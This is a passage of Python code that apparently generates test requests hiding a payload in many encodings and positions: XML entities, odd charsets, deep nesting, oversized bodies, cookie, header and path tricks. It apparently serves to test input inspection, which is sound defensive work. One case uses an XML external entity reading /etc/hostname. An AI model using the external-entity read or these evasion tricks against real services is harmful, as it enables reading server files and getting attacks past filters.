    body("in an entity", lambda a: f'{head}<!DOCTYPE a [<!ENTITY e "{entity(a)}">]><a>&e;</a>')
    attribute("in an entity", lambda a: f'{head}<!DOCTYPE a [<!ENTITY e "{entity(a)}">]><a q="&e;"/>')
    body("in an entity of an entity", lambda a: f'{head}<!DOCTYPE a [<!ENTITY e "{entity(a)}"><!ENTITY f "&e;">]><a>&f;</a>')
    body("split over entities", lambda a: f'{head}<!DOCTYPE a [<!ENTITY e "{entity(a[:5])}"><!ENTITY f "{entity(a[5:])}">]><a>&e;&f;</a>')
    body("element in an entity", lambda a: f"{head}<!DOCTYPE a [<!ENTITY e '<q>{entity(escape(a))}</q>'>]><a>&e;</a>")
    body("in an external entity", lambda a: f'{head}<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/hostname">]><a>&e;{escape(a)}</a>')
    attribute("by default", lambda a: f'{head}<!DOCTYPE a [<!ATTLIST a q CDATA "{entity(a)}">]><a/>')
    body("with BOM", lambda a: "\ufeff" + plain(a))
    body("blank before the declaration", lambda a: " " + plain(a))
    for coding in ("utf-16", "utf-16-le", "utf-16-be"):
        body(f"in {coding}", lambda a, c=coding: plain(a).replace('"1.0"', '"1.0" encoding="utf-16"').encode(c))
    body("in utf-32", lambda a: plain(a).encode("utf-32"))
    for coding in ("iso-8859-1", "us-ascii", "utf-7", "cp037"):
        body(
            f"declared as {coding}",
            lambda a, c=coding: plain(a).replace('"1.0"', f'"1.0" encoding="{c}"').encode(c, "replace"),
        )
    for depth in (127, 128, 300):
        body(f"{depth} levels deep", lambda a, d=depth: "<a>" * d + escape(a) + "</a>" * d)
    for number in (ITEMS - 1, ITEMS):
        body(f"after {number:,} texts", lambda a, n=number: "<a>" + "<b>1</b>" * n + f"<q>{escape(a)}</q></a>")
    body("after the limit", lambda a: f"<a><z>{'z' * BODY_LIMIT}</z><q>{escape(a)}</q></a>")
    body("end missing", lambda a: f"<a><q>{escape(a)}</q>")
    body("wrong end", lambda a: f"<a><q>{escape(a)}</q></b>")
    body("second root", lambda a: f"<a/><q>{escape(a)}</q>")
    body("text after the root", lambda a: f"<a/>{escape(a)}")
    body("attribute without quotes before", lambda a: f"<a><b c=d/>{escape(a)}</a>")
    body("invalid UTF-8 before", lambda a: b"<a><b>\xff</b>" + octets(escape(a)) + b"</a>")
    for kind in ("text/xml", "application/soap+xml; charset=utf-8", "image/svg+xml", "application/xml; charset=utf-16", "application/xhtml+xml", "Text/XML"):
        body(f"Content-Type {kind!r}", plain, kind)


def heads(corpus):
    def cookie(name, *values):
        corpus.add("cookie", name, lambda a: request("GET", "/", [("Cookie", value(a)) for value in values]))

    c = lambda a: quote(a, safe="")
    cookie("plain", lambda a: "a=1; q=" + c(a))
    jcookie = lambda document: "j:" + quote(document, safe="")
    escaped = lambda a: "".join(f"\\u{ord(c):04x}" for c in a)
    cookie("in quotes in octal", lambda a: 'q="' + "".join(f"\\{ord(c):03o}" for c in a) + '"')
    cookie("in JSON after deep JSON", lambda a: "q=" + jcookie('{"a":' + "[" * 200 + "]" * 200 + f',"q":"{escaped(a)}"}}'))
    cookie("in a name of JSON", lambda a: "q=" + jcookie(f'{{"{escaped(a)}":{{"a":2}}}}'))
    cookie("in JSON in quotes", lambda a: 'q="' + jcookie(f'{{"a":"{escaped(a)}"}}') + '"')
    corpus.add("cookie name", "plain", lambda a: request("GET", "/", [("Cookie", c(a) + "=1")]))
    cookie("blanks as +", lambda a: "q=" + quote_plus(a))
    cookie("in quotes", lambda a: 'q="' + c(a) + '"')
    cookie("not escaped", lambda a: "q=" + a)
    cookie("name empty", lambda a: "=" + c(a))
    cookie("no =", lambda a: c(a))
    cookie("no blank between", lambda a: "a=1;q=" + c(a))
    cookie("blanks around =", lambda a: "a=1; q = " + c(a))
    cookie("comma as separator", lambda a: "a=1, q=" + c(a))
    cookie("$Version before", lambda a: "$Version=1; q=" + c(a) + "; $Path=/")
    cookie("repeated", lambda a: "q=1; q=" + c(a))
    cookie("second field", lambda a: "a=1", lambda a: "q=" + c(a))
    cookie("second field, same name", lambda a: "q=1", lambda a: "q=" + c(a))
    cookie("in JSON", lambda a: "q=" + c("j:" + json.dumps({"x": a})))
    for number in (ITEMS - 1, ITEMS):
        cookie(f"after {number:,} cookies", lambda a, n=number: "a;" * n + "q=" + c(a))
    corpus.add("cookie", "HTTP/2, one field each", lambda a: http2("GET", "/", [("Cookie", "a=1"), ("Cookie", "q=" + c(a))]))

    def fields(name, *rows, **more):
        corpus.add("header", name, lambda a: request("GET", "/", [(n, v(a)) for n, v in rows], **more))

    fields("plain", ("X-Q", lambda a: a))
    fields("second of two", ("X-Q", lambda a: "1"), ("X-Q", lambda a: a))
    fields("first of two", ("X-Q", lambda a: a), ("X-Q", lambda a: "1"))
    fields("name in capitals", ("X-LONG-NAME", lambda a: a))
    fields("blanks around", ("X-Q", lambda a: " \t" + a + "\t "))
    fields("folded", ("X-Q", lambda a: "1\r\n " + a))
    fields("after 8 KB", ("X-Q", lambda a: "x" * 8192 + " " + a))
    fields("name with _", ("X_Q", lambda a: a))
    corpus.add("header", "100 fields before", lambda a: request("GET", "/", [(f"X-{n}", "1") for n in range(100)] + [("X-Q", a)]))
    corpus.add("header", "HTTP/2", lambda a: http2("GET", "/", [("X-Q", a)]))

    def path(name, target):
        corpus.add("path", name, lambda a: request("GET", target(a)))

    path("plain", lambda a: "/x/" + quote(a, safe=""))
    path("every byte escaped", lambda a: "/x/" + every_byte(a))
    path("as the first segment", lambda a: "/" + quote(a, safe=""))
    path("after a parameter", lambda a: "/x;a=1/" + quote(a, safe=""))
    path("before a query", lambda a: "/x/" + quote(a, safe="") + "?a=1")


def corpus():
    found = Corpus()
    for family in (queries, forms, jsons, multiparts, xmls, heads):
        family(found)
    return found.deliveries
